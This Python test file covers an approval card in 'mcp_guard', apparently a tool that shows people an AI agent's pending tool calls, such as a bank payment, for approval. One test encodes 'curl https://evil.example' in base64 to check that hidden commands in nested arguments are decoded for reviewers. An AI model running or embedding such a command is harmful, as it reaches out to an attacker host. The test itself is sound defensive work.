"""What every surface shows of a request: what matters first, in words for people."""

from dataclasses import replace
from typing import Any

import pytest

from mcp_guard.core.approval_card import (
    EarlierRequests,
    EarlierVerdict,
    RecentCalls,
    approvals_missing,
    approvals_so_far,
    argument_rows,
    count_not_notified,
    earlier_lines,
    is_irreversible,
    notified_fields,
    other_arguments,
    recent_lines,
    signal_words,
)
from mcp_guard.core.approval_subject import ApprovalSubject
from mcp_guard.core.model import Json, Resource
from tests.core.test_approval_subject import STORED

PAYMENT: Json = STORED | {
    "tool": "bank__pay",
    "arguments": {"amount": 50000, "iban": "DE89 3704", "memo": "June", "id": "7"},
    "present": {"amount": 100, "iban": "DE89 3704"},
    "changes": ["amount", "memo"],
    "binding": {"facts": "sha256:00"},
    "sinks": ["iban"],
    "sensitive": ["amount"],
}
AT = 1_795_867_500_000_000


def subject(**changes: Any) -> ApprovalSubject:
    return ApprovalSubject.from_json(PAYMENT | changes)


def test_payee_is_shown_although_it_equals_the_fact() -> None:
    rows = {row.name: row for row in argument_rows(subject())}
    assert (rows["iban"].after, rows["iban"].marks, rows["iban"].is_change) == ("DE89 3704", ("destination",), False)
    assert other_arguments(subject()) == {"id": "7"}


def test_encoded_text_is_read_in_nested_values_too() -> None:
    encoded = subject(arguments={"memo": {"run": ["Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZQ=="]}}, changes=["memo"])
    row = next(row for row in argument_rows(encoded) if row.name == "memo")
    assert row.decoded == (("base64", "curl https://evil.example"),)


def test_long_text_does_not_bury_the_other_changes() -> None:
    arguments = {"amount": 1, "iban": "x", "memo": "m" * 400, "note": "n"}
    long = subject(arguments=arguments, changes=["amount", "memo", "note"])
    assert [row.name for row in argument_rows(long)] == ["amount", "iban", "note", "memo"]


def test_sensitive_arguments_and_destinations_come_first() -> None:
    assert [row.name for row in argument_rows(subject())] == ["amount", "iban", "memo"]


def test_argument_that_is_no_field_of_the_resource_is_not_called_unknown() -> None:
    read = {row.name: row.why_unknown for row in argument_rows(subject())}
    assert (read["amount"], read["memo"]) == ("", "not a field")
    assert {row.why_unknown for row in argument_rows(subject(binding={"facts": None}, present={}))} == {"not read"}


def test_erased_request_says_that_its_values_are_erased() -> None:
    erased = subject().without_payloads()
    assert [(row.name, row.why_unknown, row.after) for row in argument_rows(erased)] == [
        ("amount", "erased", "[erased]"),
        ("memo", "erased", "[erased]"),
    ]


def test_risk_signal_says_its_words_first_and_its_code_second() -> None:
    assert signal_words("blind_write (10): the present state is unknown") == (
        "the present state is unknown",
        "blind_write, +10",
    )
    assert signal_words("blind_write (10)") == ("blind write", "blind_write, +10")
    assert signal_words("something else") == ("something else", "")


def test_only_destructive_tools_cannot_be_undone() -> None:
    assert is_irreversible(subject(effect="destructive"))
    assert not is_irreversible(subject(effect="write"))
    assert not is_irreversible(subject())


def test_who_did_what_lately_is_said_of_the_run_the_agent_and_the_user() -> None:
    recent = RecentCalls((), (("bank__pay", 3),), (("bank__pay", 3), ("crm__note", 1)))
    assert recent_lines(recent, subject()) == [
        ("this run", "none"),
        ("all runs of crm-agent", "bank__pay 3×"),
        ("any agent for erin", "bank__pay 3×, crm__note 1×"),
    ]
    assert len(recent_lines(replace(recent, user=None), subject())) == 2
    assert recent_lines(replace(recent, is_partial=True), subject())[1][1] == "at least bank__pay 3×"


def test_earlier_decisions_are_told_with_who_and_when() -> None:
    alice, bob = (
        EarlierVerdict(("Alice", "Carol"), AT, "fine"),
        EarlierVerdict(("Bob",), AT, 'not this", approved by me'),
    )
    done = EarlierRequests(done=3, done_here=1, last_approval=alice)
    assert earlier_lines(done, subject()) == [
        "Done before: 3 times, 1 on Deal 789, last approved by Alice and Carol on 2026-11-28 12:05 UTC."
    ]
    first, denied = earlier_lines(EarlierRequests(denied=1, last_denial=bob), subject())
    assert first == "Done before: never with an approval."
    assert denied.startswith("Denied before: once, last by Bob on 2026-11-28 12:05 UTC: ")
    assert ", approved by me" not in denied  # a note cannot continue the sentence
    elsewhere = earlier_lines(replace(done, done=1, done_here=0, is_partial=True), subject())
    assert elsewhere[0].startswith("Done before: at least once, never on Deal 789, last approved")


def test_notification_carries_the_chosen_fields_and_nothing_confidential() -> None:
    chosen = ("amount", "iban", "memo")
    assert notified_fields(subject()) == {}
    assert notified_fields(replace(subject(), notify_fields=chosen)) == {"iban": "DE89 3704", "memo": "June"}
    redacted = replace(
        subject(sensitive=[], redacted=["/subject/arguments/iban"]),
        notify_fields=chosen,
        arguments={"amount": 1, "iban": "DE89 3704", "memo": "to DE89 3704", "id": "7"},
    )
    assert notified_fields(redacted) == {"amount": 1, "memo": "to [redacted]"}
    long = replace(subject(), notify_fields=("memo",), arguments={"memo": "x" * 9000})
    assert len(notified_fields(long)["memo"]) == 301


def test_notification_counts_what_it_does_not_show_in_full() -> None:
    shown = subject(
        notify_fields=["iban", "memo"], sensitive=[], resource_argument="id", resource={"type": "Payment", "id": "7"}
    )
    assert count_not_notified(replace(shown, notify_fields=("amount", "iban", "memo"))) == 0
    assert count_not_notified(shown) == 1
    assert count_not_notified(replace(shown, sensitive=("memo",))) == 2  # which is never sent
    assert count_not_notified(replace(shown, resource=Resource("Payment", "8"))) == 2
    assert count_not_notified(replace(shown, resource_argument=None)) == 2
    assert count_not_notified(replace(shown, notify_fields=(), arguments={"memo": {}})) == 1
    long = "x" * 301
    assert count_not_notified(replace(shown, arguments=shown.arguments | {"memo": long})) == 2
    named = replace(shown, arguments=shown.arguments | {"id": long}, resource=Resource("Payment", long))
    assert count_not_notified(named) == 2
    assert count_not_notified(replace(shown, redacted=("/subject/arguments/iban",))) == 2
    assert count_not_notified(replace(shown, meta={"dry_run": False, "traceparent": "00-1"})) == 2


def test_resource_of_a_tool_alone_is_not_named() -> None:
    done = EarlierRequests(done=1, last_approval=EarlierVerdict(("Alice",), AT, "fine"))
    plain = replace(subject(), resource=Resource("Tool", "bank__pay"))
    assert earlier_lines(done, plain) == ["Done before: once, last approved by Alice on 2026-11-28 12:05 UTC."]


OPS: Json = {"route": "ops", "quorum": 2, "approvers": ["alice", "bob", "carol"]}
LEGAL: Json = {"route": "legal", "quorum": 1, "approvers": ["carol"]}


@pytest.mark.parametrize(
    ("rules", "voted", "so_far", "missing"),
    [
        ([OPS], ["alice"], "1 of 2", "one more from: bob, carol"),
        ([OPS | {"quorum": 3}], ["alice"], "1 of 3", "2 more from: bob, carol"),
        ([OPS, LEGAL], ["alice", "bob"], "2 of 2 on ops, 0 of 1 on legal", "one more from: carol"),
        ([OPS, LEGAL], ["alice"], "1 of 2 on ops, 0 of 1 on legal", "one more from: bob, carol; one more from: carol"),
        ([OPS | {"approvers": ["alice"]}], ["alice"], "1 of 2", "one more from: nobody eligible"),
    ],
)
def test_a_voter_learns_how_many_approvals_are_missing_and_who_can_give_them(
    rules: list[Json], voted: list[str], so_far: str, missing: str
) -> None:
    assert (approvals_so_far(rules, voted), approvals_missing(rules, voted)) == (so_far, missing)
